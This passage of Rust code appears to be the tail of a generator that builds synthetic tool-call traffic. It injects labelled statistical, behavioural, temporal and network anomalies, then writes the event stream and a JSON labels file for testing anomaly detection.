        log: HashMap::new(),
        requests: HashMap::new(),
        sres: if sres.is_empty() {
            vec![usize::MAX]
        } else {
            sres
        },
        incident_team,
    };
    for pi in 0..g.people.len() {
        if g.people[pi].human() {
            g.person(pi, args.seed);
        }
    }
    g.services(args.seed);
    let mut log = std::mem::take(&mut g.log);
    for calls in log.values_mut() {
        calls.sort_by_key(|&i| g.calls[i].at_us);
    }
    g.log = log;
    let benign = g.calls.len();
    let mut labels = Vec::new();
    if args.anomalies {
        let mut st = Inj {
            rng: Rng::new(args.seed, 0xA70A_11E5),
            used: HashSet::new(),
            busy: HashSet::new(),
        };
        let families: [(&str, [&str; 4]); 4] = [
            (
                "statistical",
                ["call_rate", "error_rate", "output_size", "execution_time"],
            ),
            (
                "behavioural",
                [
                    "first_tool",
                    "new_client",
                    "unusual_arguments",
                    "sensitive_then_send",
                ],
            ),
            ("temporal", ["off_hours", "burst", "off_hours", "burst"]),
            (
                "network",
                ["new_network", "many_ips", "shared_ip", "impossible_travel"],
            ),
        ];
        for (family, kinds) in families {
            for (sev, severity) in SEVERITIES.iter().enumerate() {
                for kind in kinds {
                    match g.inject(family, kind, sev, &mut st) {
                        Some(l) => labels.push(l),
                        None => eprintln!("could not place {family}/{kind}/{severity}"),
                    }
                }
            }
        }
    }
    // Events in id order.
    let mut order: Vec<(Ulid, usize, bool)> = Vec::with_capacity(g.calls.len() * 2);
    for (i, c) in g.calls.iter().enumerate() {
        order.push((c.access_id, i, false));
        order.push((c.end_id, i, true));
    }
    order.sort_unstable();
    let mut out = std::io::BufWriter::new(std::fs::File::create(&args.out)?);
    for (_, i, end) in &order {
        serde_json::to_writer(&mut out, &g.event(&g.calls[*i], *end))?;
        out.write_all(b"\n")?;
    }
    out.flush()?;
    if let Some(path) = &args.labels {
        let anomalies: Vec<Value> = labels
            .iter()
            .map(|l| {
                let from = l
                    .calls
                    .iter()
                    .map(|&i| g.calls[i].at_us / 1000)
                    .min()
                    .unwrap_or(0);
                let to = l
                    .calls
                    .iter()
                    .map(|&i| (g.calls[i].at_us + g.calls[i].exec_us as i64) / 1000)
                    .max()
                    .unwrap_or(0);
                let evidence: Vec<String> = l
                    .calls
                    .iter()
                    .flat_map(|&i| {
                        [
                            g.calls[i].access_id.to_string(),
                            g.calls[i].end_id.to_string(),
                        ]
                    })
                    .collect();
                json!({
                    "family": l.family,
                    "kind": l.kind,
                    "severity": l.severity,
                    "subject": l.subject,
                    "from": rfc3339(g.start_ms + from),
                    "to": rfc3339(g.start_ms + to + 999),
                    "evidence": evidence,
                    "note": l.note,
                })
            })
            .collect();
        let people: Vec<Value> = g
            .people
            .iter()
            .map(|p| {
                json!({
                    "id": p.id,
                    "role": if p.svc.is_some() { "service" } else { p.role.name() },
                    "zone": p.zone.name(),
                    "notes": p.notes,
                })
            })
            .collect();
        let file = json!({
            "generator": "examples/traffic_blind.rs",
            "seed": args.seed,
            "start": START,
            "days": args.days,
            "anomalies": anomalies,
            "context": g.context(),
            "people": people,
        });
        std::fs::write(path, serde_json::to_string_pretty(&file)? + "\n")?;
    }
    eprintln!(
        "{} identities, {} days: {} benign calls, {} injected calls in {} labels, {} events",
        g.people.len(),
        args.days,
        benign,
        g.calls.len() - benign,
        labels.len(),
        order.len()
    );
    Ok(())
}
